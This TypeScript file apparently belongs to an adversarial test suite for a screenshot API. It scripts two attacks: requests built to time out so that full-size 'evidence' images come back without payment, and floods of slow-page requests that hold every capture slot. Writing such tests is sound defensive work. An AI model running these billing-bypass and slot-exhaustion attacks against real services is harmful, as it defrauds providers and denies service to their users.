// Attack: screenshots without paying, by waits that must fail; and use of every slot for synchronous calls, by pages
// that never respond.

import { limits } from '@galley/contract';
import { type AttackContext, nameOf, repeat } from './attack-context.ts';
import { sizeOfImage } from './image-size.ts';

/** Each loads the page, and then waits for something that does not come. */
const waits = [
  { delay_ms: 10_000, timeout_ms: 4_000 },
  { wait_for_selector: '#nope', timeout_ms: 3_000 },
  { wait_for_selector: '#nope', timeout_ms: 2_500, viewport: { width: 1920, height: 1080 }, scale: 2 },
  { wait_until: 'networkidle', delay_ms: 3_900, timeout_ms: 4_000 },
] as const;

const CONNECTIONS = 12;

export async function takeScreenshots(context: AttackContext): Promise<void> {
  await repeat(context, { everyMs: 1_000 }, async (number) => {
    const options = waits[number % waits.length];
    const response = await context.api('POST /capture/screenshot', { url: `${context.site}/?free=${number}`, options });
    context.count(`screenshot ${nameOf(response)}`);
    if (response.status === 200) return context.receive('screenshot');
    const evidence = response.body['evidence_url'];
    if (typeof evidence === 'string') await checkEvidence(context, evidence);
  });
}

/** A small image is evidence of what went wrong; a large one is the requested screenshot. */
async function checkEvidence(context: AttackContext, url: string): Promise<void> {
  const response = await fetch(url);
  if (!response.ok) return;
  const { width, height } = sizeOfImage(Buffer.from(await response.arrayBuffer()));
  context.count(`evidence ${width}x${height}`);
  if (Math.max(width, height) > limits.previewPx) context.steal(`screenshot of ${width}x${height} as evidence`);
}

export async function holdSlots(context: AttackContext): Promise<void> {
  await repeat(context, { lines: CONNECTIONS, everyMs: 300 }, async (number) => {
    const options = { timeout_ms: 12_000 };
    const response = await context.api('POST /capture/screenshot', {
      url: `${context.ownSite}/never?n=${number}`,
      options,
    });
    context.count(`slow page ${nameOf(response)}`);
  });
}
